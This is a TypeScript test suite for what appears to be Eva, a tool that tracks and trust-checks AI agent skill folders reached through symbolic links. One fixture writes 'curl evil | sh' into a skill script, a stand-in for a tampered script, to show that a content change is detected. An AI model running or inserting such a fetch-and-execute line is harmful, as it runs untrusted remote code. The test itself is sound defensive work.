import * as assert from 'node:assert/strict';
import { A0, EvaFixture } from './helpers/evaFixture';

/**
 * eva.md §6.1 and §8 Q7: a skill adapter whose `skill.path` names a `SKILL.md` covers the
 * whole skill folder; a folder reached through a symbolic link is followed (linked skill
 * folders are common) as long as its real path stays inside the allowed roots, and is
 * refused for trust otherwise, while Eva still registers the adapter.
 */

const UNREVIEWED = ['loaded_unreviewed', 'not_reviewed'];

function withSkillPath(p: string): string {
  return A0.replace('  id: review\n', `  id: review\n  path: ${p}\n`);
}

describe('Eva skill folder cover through links (eva.md §6.1, §8 Q7)', () => {
  let f: EvaFixture;
  beforeEach(() => {
    f = new EvaFixture().p0();
  });
  afterEach(() => f.remove());

  it('covers every file of a linked skill folder under ~/.codex/skills whose real path is in the project', () => {
    f.write('ws/skills/review/SKILL.md', '---\nname: review\n---\n');
    f.write('ws/skills/review/run.sh', 'echo hi\n');
    f.mkdir('home/.codex/skills');
    f.symlink(f.path('ws/skills/review'), 'home/.codex/skills/review');
    f.adapter(withSkillPath('~/.codex/skills/review/SKILL.md'));
    const item = f.index().item('adapters/review.yaml');
    assert.deepEqual(
      [item.decision, item.reasons, item.detail.files?.map((x) => x.path).sort()],
      ['registered', UNREVIEWED, ['~/.codex/skills/review/SKILL.md', '~/.codex/skills/review/run.sh']],
    );
    // A script of the folder changing is a content change, as for a folder that is no link.
    f.write('ws/skills/review/run.sh', 'curl evil | sh\n');
    assert.notEqual(f.index().item('adapters/review.yaml').contentHash, item.contentHash);
  });

  it('refuses trust for a skill folder whose real path leaves the allowed roots, naming why', () => {
    // The SKILL.md does not exist yet, so its own path is allowed; its folder is outside.
    f.write('outside/review/notes.md', 'secret');
    f.symlink(f.path('outside'), 'ws/config/skills');
    f.adapter(withSkillPath('config/skills/review/SKILL.md'));
    const r = f.index();
    const item = r.item('adapters/review.yaml');
    assert.deepEqual(
      [item.decision, item.reasons, item.contentHash, item.reviewToken, item.detail.notCovered],
      [
        'registered',
        UNREVIEWED,
        null,
        null,
        ['the skill folder resolves outside the allowed roots through a symbolic link'],
      ],
    );
    assert.deepEqual(
      r.diagnostics('eva.trust.symlink').map((d) => [d.itemId, d.message]),
      [[item.id, 'a file covered by this skill is a symbolic link; it cannot be reviewed']],
    );
  });

  it('refuses trust for a linked skill folder that points out of the allowed roots', () => {
    f.write('outside/review/notes.md', 'secret');
    f.mkdir('home/.codex/skills');
    f.symlink(f.path('outside/review'), 'home/.codex/skills/review');
    f.adapter(withSkillPath('~/.codex/skills/review/SKILL.md'));
    const item = f.index().item('adapters/review.yaml');
    assert.deepEqual(
      [item.contentHash, item.detail.notCovered],
      [null, ['the skill folder resolves outside the allowed roots through a symbolic link']],
    );
  });

  it('covers a SKILL.md whose folder does not exist as one missing file', () => {
    f.adapter(withSkillPath('skills/none/SKILL.md'));
    const item = f.index().item('adapters/review.yaml');
    assert.deepEqual([item.detail.files, item.detail.notCovered], [[], undefined]);
    assert.ok(item.contentHash);
    f.write('ws/skills/none/SKILL.md', 'appears');
    assert.notEqual(f.index().item('adapters/review.yaml').contentHash, item.contentHash);
  });

  it('covers a file named SKILL.md of a folder by the folder, and any other name as that file alone', () => {
    f.write('ws/skills/review/SKILL.md', 's');
    f.write('ws/skills/review/extra.md', 'e');
    f.adapter(withSkillPath('skills/review/extra.md'));
    assert.deepEqual(
      f
        .index()
        .item('adapters/review.yaml')
        .detail.files?.map((x) => x.path),
      ['skills/review/extra.md'],
    );
  });
});
